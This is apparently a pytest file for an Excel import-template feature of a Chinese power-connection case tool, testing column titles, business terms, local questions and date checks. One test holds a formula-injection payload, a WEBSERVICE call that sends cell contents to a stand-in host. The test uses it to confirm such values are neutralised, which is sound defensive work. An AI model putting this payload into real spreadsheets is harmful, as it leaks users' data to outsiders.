"""Tables of a place with businesses, questions and facts of works of its own: columns, words, problems, template."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from functools import cache, partial
from typing import TYPE_CHECKING, Any

import pytest
from builders.exchange_builders import LINE
from builders.tried_packs import PLACES
from openpyxl import load_workbook

from gridcounter.bootstrap import open_assessor
from gridcounter.core.exchange.import_columns import EXAMPLE
from gridcounter.core.exchange.import_table import table_of
from gridcounter.core.local_key import LocalKey
from gridcounter.core.policy.keys import FlagKey, Key, NumberKey, WordKey
from gridcounter.services.exchange.import_place import import_table
from gridcounter.services.exchange.import_rows import Frame, ImportRow, read_row
from gridcounter.services.exchange.import_template import GUIDE, SHEET, write_template
from gridcounter.services.exchange.import_titles import columns_of, is_title
from gridcounter.services.files.progress import unwatched
from gridcounter.services.files.workbooks import read_sheet
from gridcounter.services.office.pack_check import read_checked

if TYPE_CHECKING:
    from pathlib import Path

    from gridcounter.services.office.packs import InstalledPacks

TODAY = date(2026, 9, 28)


@cache
def packs() -> InstalledPacks:
    assessor = open_assessor()
    found = assessor.packs
    for place in ("zhongshan", "yichuan"):
        found = found.on_trial(read_checked(PLACES / place, found.baseline, assessor.calendar))
    return found


def write(path: Path, place: str, *lines: dict[str, Any]) -> Path:
    """The template of the place with these lines, by title, below its examples."""
    write_template(path, import_table(packs(), place))
    book = load_workbook(path)
    sheet = book[SHEET]
    places = {str(cell.value).rstrip("*"): place for place, cell in enumerate(sheet[1], start=1)}
    for number, line in enumerate(lines, start=4):
        whole = {"用电人名称": LINE["applicant.name"], "用电地址": LINE["premises.address"]} | line
        for title, value in whole.items():
            sheet.cell(number, places[title]).value = value
    book.save(path)
    return path


def brought(path: Path, place: str) -> tuple[list[ImportRow], list[str]]:
    table = import_table(packs(), place)
    sheet = read_sheet(path, SHEET, partial(is_title, table=table), unwatched)
    columns, notices = columns_of(sheet, table)
    assert notices == []
    header = packs().newest(place).header
    packed = packs().localities, packs().documents, packs().newest(place).voltages
    frame = Frame(place, header.place, header.region_codes, *packed, TODAY, table=table, local=packs().local_problems)
    rows, wrong = [], []
    for row in sheet.rows:
        found, problems = read_row(row, columns, frame)
        rows += [found] if found else []
        wrong += [f"第 {row.number} 行 {problem}" for problem in problems]
    return rows, wrong


def test_the_examples_are_read_as_written_and_left_out(tmp_path: Path) -> None:
    """One of connecting and one of another business: whoever leaves both in the file imports nothing by it."""
    path = write(tmp_path / "in.xlsx", "zhongshan")

    assert [cell.value for cell in load_workbook(path)[SHEET]["A"]][1:] == [f"{EXAMPLE}样例面馆", f"{EXAMPLE}样例茶楼"]
    assert load_workbook(path)[SHEET]["C3"].value == "过户、更名"
    assert brought(path, "zhongshan") == ([], [])


def test_a_business_is_read_under_its_name_and_a_part_of_it(tmp_path: Path) -> None:
    words = ("过户、更名", "更名", "销户", "报停", "恢复用电（暂停、减容后）")
    rows, wrong = brought(write(tmp_path / "in.xlsx", "jining", *({"办理业务": word} for word in words)), "jining")

    assert wrong == []
    found = [row.fields["case.business"] for row in rows]
    assert found == ["transfer", "transfer", "closing", "suspension", "resumption"]


def test_answers_to_the_questions_of_a_place_are_read_and_wrong_ones_told_by_their_column(tmp_path: Path) -> None:
    yes = {"办理业务": "新装", "有无外线工程": "有", "是否涉及公路": "是", "是否占用林地": "否"}
    without_works = {"办理业务": "新装", "有无外线工程": "无", "是否涉及公路": "是"}
    rows, wrong = brought(
        write(tmp_path / "in.xlsx", "zhongshan", yes, {**yes, "是否涉及公路": "也许"}, without_works), "zhongshan"
    )

    assert [(row.fields["case.local.highway"], row.fields["case.local.forest"]) for row in rows] == [(True, False)]
    assert wrong == [
        "第 5 行 是否涉及公路：填写的是 “也许”；应为以下之一：是、否",
        "第 6 行 有无外线工程：填写的是 无；应为“有”，或者不填是否涉及公路",
    ]


def test_facts_of_works_are_offered_where_the_policy_asks_them_and_read_everywhere(tmp_path: Path) -> None:
    """A column of 绿地占用面积 in the template of a place that never asks would be filled in for nothing."""
    titles = {place: [one.title for one in import_table(packs(), place).offered] for place in ("jining", "yichuan")}
    assert "绿地占用面积（平方米）" in titles["yichuan"]
    assert {"绿地占用面积（平方米）", "道路建成日期"}.isdisjoint(titles["jining"])

    line = {"办理业务": "新装", "占用挖掘部位": "绿地", "绿地占用面积（平方米）": "15.1"}
    rows, wrong = brought(write(tmp_path / "in.xlsx", "yichuan", line), "yichuan")
    assert (wrong, rows[0].fields["case.works.green_area_m2"]) == ([], 15.1)
    contradicted = {**line, "占用挖掘部位": "人行道"}
    _, wrong = brought(write(tmp_path / "in.xlsx", "yichuan", contradicted), "yichuan")
    assert wrong == [
        "第 4 行 绿地占用面积（平方米）：填写的是 15.1；应为0 或留空（占用挖掘部位里没有绿地）",
    ]


def test_a_day_of_the_case_is_stored_as_the_contract_writes_it(tmp_path: Path) -> None:
    path = write(tmp_path / "in.xlsx", "jining")
    book = load_workbook(path)
    sheet = book[SHEET]
    sheet.cell(1, sheet.max_column + 1).value = "道路建成日期"
    for number, day in ((4, date(2015, 6, 30)), (5, date(2026, 10, 1))):
        for place, value in ((1, "样例面馆"), (2, "样例路1号"), (3, "新装"), (sheet.max_column, day)):
            sheet.cell(number, place).value = value
    book.save(path)

    rows, wrong = brought(path, "jining")

    assert [row.fields["case.works.road_built_on"] for row in rows] == ["2015-06-30"]
    assert wrong == ["第 5 行 道路建成日期：填写的是 “2026-10-01”；应为不晚于受理日 2026-09-28 的日期，或留空"]
    assert rows[0].digest  # a day as such is nothing that a digest can be made of


def test_what_the_edition_of_the_day_does_not_have_is_told_in_words(tmp_path: Path) -> None:
    """Ids of a pack are nothing that stands in the table of a clerk."""
    own = {"办理业务": "过户", "有无外线工程": "有", "是否涉及公路": "是"}
    path = write(tmp_path / "in.xlsx", "zhongshan", own)
    table = import_table(packs(), "zhongshan")
    sheet = read_sheet(path, SHEET, partial(is_title, table=table), unwatched)
    other = packs().on_trial(replace(packs().newest("jining"), header=packs().newest("zhongshan").header))
    bare = replace(packs().baseline, sections={**packs().baseline.sections, "business": ()})
    local = replace(other, baseline=bare).local_problems
    packed = packs().localities, packs().documents, packs().newest("zhongshan").voltages
    frame = Frame("zhongshan", "中山市", ("4420",), *packed, TODAY, table=table, local=local)

    _, problems = read_row(sheet.rows[2], columns_of(sheet, table)[0], frame)

    assert list(map(str, problems)) == [
        "办理业务：填写的是 “过户、更名”；应为受理日的文件里有的业务（改写办理业务，或者核对受理日期）",
        "是否涉及公路：填写的是 一个回答；应为留空（受理日的文件不问这一项）",
    ]


def test_a_question_called_as_another_column_gets_a_name_of_its_own_and_long_lists_stand_in_the_guide(
    tmp_path: Path,
) -> None:
    """Two columns of one title were refused as written twice; a list of more than 255 characters breaks the file."""
    many = {f"w{number}": f"第 {number} 种敷设和保护的方式，见附件" for number in range(20)}
    questions: dict[LocalKey, Key] = {
        LocalKey("local.class", "道路等级"): FlagKey(),
        LocalKey("local.depth", "埋深", "厘米"): NumberKey(zero=True),
        LocalKey("local.way", "敷设方式要求", words=many): WordKey(tuple(many)),
    }
    table = table_of({"new_connection": "新装"}, questions, ())
    write_template(tmp_path / "in.xlsx", table)
    book = load_workbook(tmp_path / "in.xlsx")

    titles = [str(cell.value) for cell in book[SHEET][1]]
    assert titles[-3:] == ["本地：道路等级", "埋深（厘米）", "敷设方式要求"]
    assert len(titles) == len(set(titles))
    assert all(
        is_title(one.rstrip("*").partition("（")[0].replace("：", ":").replace(":", ""), table) for one in titles[-3:]
    )
    lists = {one.formula1 for one in book[SHEET].data_validations.dataValidation}
    assert max(map(len, lists)) < 257
    guide = {row[0]: row[2] for row in book[GUIDE].iter_rows(values_only=True)}
    assert guide["敷设方式要求"] == "、".join(many.values())


def test_a_policy_whose_words_look_like_formulas_puts_none_into_the_template(tmp_path: Path) -> None:
    """The label of a question sent the names that stood below it to a stranger, as soon as the file was opened."""
    sends = '=WEBSERVICE("http://x.example/?"&A4)'
    words = {"one": "=1+1", "two": "+二"}
    questions: dict[LocalKey, Key] = {
        LocalKey("local.flag", sends): FlagKey(),
        LocalKey("local.way", "@方式", words=words): WordKey(tuple(words)),
        LocalKey("local.depth", "-埋深", "=厘米"): NumberKey(zero=True),
    }
    write_template(tmp_path / "in.xlsx", table_of({"new_connection": "新装", "transfer": "=过户"}, questions, ()))
    book = load_workbook(tmp_path / "in.xlsx")

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    held = {cell.value: cell for cell in cells if str(cell.value).startswith(("=", "+", "@", "-"))}
    assert {sends, "@方式", "-埋深（=厘米）", "=过户", "=1+1、+二"} <= held.keys()
    assert {cell.data_type for cell in held.values()} == {"s"}
    assert all(cell.quotePrefix for cell in held.values()), "nor when it is edited"
    lists = {one.formula1 for one in book[SHEET].data_validations.dataValidation}
    assert not any(word in one for one in lists for word in ("=1+1", "=过户")), "a chosen word counts as typed"


@pytest.mark.parametrize("place", ["jining", "yichuan", "zhongshan"])
def test_every_title_of_a_template_is_a_column_and_every_word_it_offers_is_read(place: str) -> None:
    table = import_table(packs(), place)

    assert {one.field for one in table.offered} <= {one.field for one in table.named.values()}
    for column in table.offered:
        assert all(table.said[column.field]), column.title
